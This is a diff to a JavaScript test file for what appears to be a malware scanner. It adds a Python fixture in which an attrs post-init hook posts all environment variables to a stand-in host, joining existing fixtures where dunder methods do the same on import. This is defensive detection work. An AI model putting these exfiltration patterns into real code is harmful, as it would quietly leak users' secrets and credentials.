@@ -67,11 +67,12 @@ test.each([
   expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': METHOD })).toContain('critical');
 });
 
-const BY_SIGNS = 'import os\nimport requests\n\n\nclass Watch:\n    def __or__(self, other):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __set_name__(self, owner, name):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __class_getitem__(cls, item):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
+const BY_SIGNS = 'import os\nimport requests\n\n\nclass Watch:\n    def __or__(self, other):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __set_name__(self, owner, name):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n    def __class_getitem__(cls, item):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n\n\nclass Bed:\n    def __attrs_post_init__(self):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
 
 test.each([
   ['an operator', 'from ._watch import Watch\n\nBOTH = Watch() | Watch()\n'],
   ['the making of a class', 'from ._watch import Watch\n\n\nclass Bed:\n    seen = Watch()\n'],
+  ['the end of its making', 'from ._watch import Bed\n\nBED = Bed()\n'],
   ['brackets', 'from ._watch import Watch\n\nRow = Watch["row"]\n'],
 ])('a method that Python calls by %s in another module runs on import', async (_, text) => {
   expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': BY_SIGNS })).toContain('critical');
